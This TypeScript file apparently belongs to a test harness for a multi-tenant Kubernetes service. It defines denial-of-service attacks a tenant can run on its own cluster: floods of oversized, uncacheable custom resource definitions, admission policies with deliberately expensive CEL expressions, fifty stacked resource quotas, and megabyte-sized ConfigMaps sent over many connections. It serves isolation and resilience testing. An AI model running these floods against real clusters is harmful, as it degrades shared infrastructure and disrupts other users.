// Attacks by what a tenant may put into its own cluster: definitions, policies, quotas, and as many objects as it may create.

import {
  definitionManifest,
  definitionVersion,
} from "@postern/kubernetes/custom-resources/testing/definition-manifest";
import { type Attack, repeat, type Target } from "./attack.ts";
import { flood1, sendOnce } from "./wire.ts";

const DEFINITIONS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions";
const ADMISSION = "/apis/admissionregistration.k8s.io/v1";
const configMap = (size: number): string =>
  JSON.stringify({ metadata: { generateName: "c-" }, data: { text: "x".repeat(size) } });

async function make(target: Target, path: string, body: object): Promise<void> {
  const request = { path: `${target.cluster}${path}`, key: target.key, body: JSON.stringify(body) };
  const status = await sendOnce(target, request);
  if (status !== 201 && status !== 409) throw new Error(`${path}: ${status}`);
}

/** 300 kB with 1,000 fields and a rule for each tenth, different ones each time, so that no cache has them. */
function definitionOf(number: number): string {
  const field = (index: number) => ({
    type: "string",
    maxLength: 100,
    description: `${number}-${index} ${"x".repeat(150)}`,
    ...(index % 10 === 0
      ? {
          "x-kubernetes-validations": [
            { rule: `self.size() < ${100 + (number % 1_000)} || self.startsWith('${index}')` },
          ],
        }
      : {}),
  });
  const fields = Object.fromEntries(repeat(1_000, (index) => [`field${index}`, field(index)]));
  const spec = { type: "object", properties: fields };
  const names = { group: "flood.example", kind: `Kind${number}`, plural: `kind${number}s` };
  return JSON.stringify(definitionManifest(names, definitionVersion("v1", { type: "object", properties: { spec } })));
}

/** Refuses nothing, at a cost that only the budget of a request ends. */
const POLICIES = repeat(10, (index) => ({
  metadata: { name: `costly-${index}` },
  spec: {
    matchConstraints: {
      namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "judged" } },
      resourceRules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["configmaps"] }],
    },
    variables: [{ name: "all", expression: `[${repeat(300, (item) => item).join(",")}]` }],
    validations: [
      {
        expression:
          "variables.all.all(a, variables.all.all(b, variables.all.all(c, a + b + c + object.data.text.size() > -1)))",
      },
    ],
  },
}));

const QUOTAS = 50;

export const CLUSTER_ATTACKS: readonly Attack[] = [
  {
    name: "definitions of 300 kB, each another one",
    shows: /^201$/,
    run(target, count, signal) {
      const path = `${target.cluster}${DEFINITIONS}`;
      const next = (number: number) => ({ path, key: target.key, body: definitionOf(number) });
      return flood1(target, { connections: 8, depth: 1, next }, count, signal);
    },
  },
  {
    name: "policies whose expressions have no end",
    shows: /^422$/,
    async prepare(target) {
      await make(target, "/api/v1/namespaces", { metadata: { name: "judged" } });
      for (const policy of POLICIES) {
        const { name } = policy.metadata;
        await make(target, `${ADMISSION}/validatingadmissionpolicies`, policy);
        const spec = { policyName: name, validationActions: ["Deny"] };
        await make(target, `${ADMISSION}/validatingadmissionpolicybindings`, { metadata: { name }, spec });
      }
    },
    run(target, count, signal) {
      const request = {
        path: `${target.cluster}/api/v1/namespaces/judged/configmaps`,
        key: target.key,
        body: configMap(10),
      };
      return flood1(target, { connections: 40, depth: 4, next: () => request }, count, signal);
    },
  },
  {
    name: "objects that fifty quotas count",
    shows: /^201$/,
    async prepare(target) {
      await make(target, "/api/v1/namespaces", { metadata: { name: "counted" } });
      for (let index = 0; index < QUOTAS; index++) {
        const spec = { hard: { "count/configmaps": "1000000", "count/secrets": "1000000" } };
        await make(target, "/api/v1/namespaces/counted/resourcequotas", { metadata: { name: `q-${index}` }, spec });
      }
    },
    run(target, count, signal) {
      const request = {
        path: `${target.cluster}/api/v1/namespaces/counted/configmaps`,
        key: target.key,
        body: configMap(10),
      };
      return flood1(target, { connections: 40, depth: 4, next: () => request }, count, signal);
    },
  },
  {
    name: "objects of a megabyte, as many as the share of the cluster lets",
    shows: /^(201|507)$/,
    run(target, count, signal) {
      const request = {
        path: `${target.cluster}/api/v1/namespaces/default/configmaps`,
        key: target.key,
        body: configMap(1_000_000),
      };
      return flood1(target, { connections: 8, depth: 1, next: () => request }, count, signal);
    },
  },
];
